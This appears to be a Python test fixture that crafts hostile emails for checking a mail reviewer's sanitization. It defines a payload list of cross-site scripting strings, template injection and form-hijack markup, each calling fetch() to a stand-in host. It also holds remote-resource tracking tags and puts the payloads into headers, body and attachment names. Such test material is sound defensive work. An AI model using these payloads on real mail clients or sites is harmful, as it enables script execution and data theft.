"""Mail written by somebody who wants to be more than read."""

from __future__ import annotations

import json
import os
from collections.abc import Iterable
from email.message import EmailMessage
from hashlib import sha256
from pathlib import Path
from typing import Final

RUNS: Final = "window.ran=1;fetch('https://elsewhere.example/')"
PAYLOADS: Final = (
    f"<script>{RUNS}</script>",
    f'"><script>{RUNS}</script>',
    f'"><img src=x onerror="{RUNS}">',
    f"<svg onload={RUNS}>",
    f"' autofocus onfocus='{RUNS}' x='",
    f"</title></textarea></style><script>{RUNS}</script>",
    f'<a href="javascript:{RUNS}">click</a>',
    f"<iframe srcdoc='<script>parent.{RUNS}</script>'></iframe>",
    "{{ 7*7 }}{% for x in config %}{% endfor %}",
    f"<details open ontoggle={RUNS}><math><mtext><table><mglyph><style><img src=x onerror={RUNS}>",
    f'<meta http-equiv="refresh" content="0;url=https://elsewhere.example/"><base href="https://elsewhere.example/">{RUNS}',
    f'<form action="https://elsewhere.example/"><input name=token><button formaction="javascript:{RUNS}">Approve</button></form>',
)
REMOTE: Final = (
    '<img src="https://elsewhere.example/a.png" srcset="https://elsewhere.example/b.png 2x">'
    '<link rel="stylesheet" href="https://elsewhere.example/c.css">'
    '<link rel="prefetch" href="https://elsewhere.example/d"><link rel="dns-prefetch" href="//elsewhere.example">'
    "<style>@import url(https://elsewhere.example/e.css);body{background:url(https://elsewhere.example/f)}</style>"
    '<p style="background-image:url(https://elsewhere.example/g)">Text</p>'
    '<table background="https://elsewhere.example/h"><tr><td>Cell</td></tr></table>'
    '<video poster="https://elsewhere.example/i" src="https://elsewhere.example/j" autoplay></video>'
    '<object data="https://elsewhere.example/k"></object><embed src="https://elsewhere.example/l">'
    '<iframe src="https://elsewhere.example/m"></iframe><audio src="https://elsewhere.example/n"></audio>'
    '<svg><image href="https://elsewhere.example/o"/><use href="https://elsewhere.example/p#x"/></svg>'
    '<a href="https://elsewhere.example/q" ping="https://elsewhere.example/r">our portal</a>'
)


def hostile_mail(payload: str) -> bytes:
    """A payload in every field that a reviewer is shown."""
    flat = " ".join(payload.split())
    message = EmailMessage()
    message["From"] = f'"{_quoted(flat)}" <stranger@strangers.example>'
    message["To"] = "orders@alderfinch.example"
    message["Subject"] = flat
    message["Message-ID"] = f"<{sha256(payload.encode()).hexdigest()}@strangers.example>"
    message["Date"] = "Mon, 05 Oct 2026 08:00:00 +0000"
    message.set_content(f"Where is our order 4400127?\n\n{payload}\n")
    message.add_alternative(f"<p>Where is our order 4400127?</p>{REMOTE}{payload}", subtype="html")
    message.add_attachment(payload.encode(), maintype="text", subtype="plain", filename=f"{flat}.txt")
    return message.as_bytes()


def _quoted(text: str) -> str:
    return text.replace("\\", "\\\\").replace('"', '\\"')


def shared_payloads(most: int) -> Iterable[str]:
    """So many attack texts with markup from the corpora, where there are any."""
    shared = os.environ.get("COUNTERFOIL_SHARED")
    if shared is None:
        return []
    lines = (Path(shared) / "corpora" / "attacks" / "dev.jsonl").read_text().splitlines()
    texts = [str(json.loads(line).get("text", "")) for line in lines]
    found = [
        text
        for text in texts
        if "<" in text and ("script" in text.lower() or "on" in text) and len(text) < 5000
    ]
    return found[:: max(1, len(found) // most)][:most]
